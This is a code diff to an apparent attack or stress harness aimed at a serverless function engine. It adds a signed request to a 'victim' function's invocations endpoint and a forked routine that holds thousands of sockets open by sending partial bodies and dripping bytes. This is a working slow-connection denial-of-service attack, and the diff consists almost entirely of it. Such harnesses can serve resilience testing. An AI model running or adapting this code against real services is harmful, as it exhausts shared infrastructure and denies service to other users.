@@ -9,6 +9,7 @@ import threading
 import time
 
 from trying import way
+from ways_api import own_credentials, sign
 
 MIB = 1 << 20
 PROCESSES = 2000  # tried; 1,024 are allowed
@@ -198,6 +199,41 @@ def _(targets):
                     pass
                 time.sleep(2)
                 os._exit(0)
+    for pid in pids:
+        os.waitpid(pid, 0)
+    return ""
+
+
+@way("hold connections to the engine by invocations that never end")
+def _(targets):
+    """What a function may ask for, in good order: heads that are let in, and bodies that drip."""
+    host, port = targets["api"].rsplit(":", 1)
+    path, body = f"/2015-03-31/functions/{targets['victim']}/invocations", b'"' + b"x" * 500_000 + b'"'
+    signed = sign("POST", targets["api"], path, {}, body, "lambda", *own_credentials())
+    head = "".join(f"{name}: {value}\r\n" for name, value in signed.items())
+    head = f"POST {path} HTTP/1.1\r\n{head}Content-Length: {len(body)}\r\n\r\n".encode() + body[:100]
+    pids = []
+    for _ in range(3):
+        pids.append(os.fork())
+        if pids[-1] == 0:
+            held = []
+            try:
+                for _ in range(900):
+                    connection = socket.socket()
+                    held.append(connection)
+                    connection.settimeout(0.5)
+                    connection.connect((host, int(port)))
+                    connection.sendall(head)
+            except OSError:
+                pass
+            for _ in range(4):
+                time.sleep(0.5)
+                for connection in held:
+                    try:
+                        connection.send(b"xxxxxxxxxx")
+                    except OSError:
+                        pass
+            os._exit(0)
     for pid in pids:
         os.waitpid(pid, 0)
     return ""
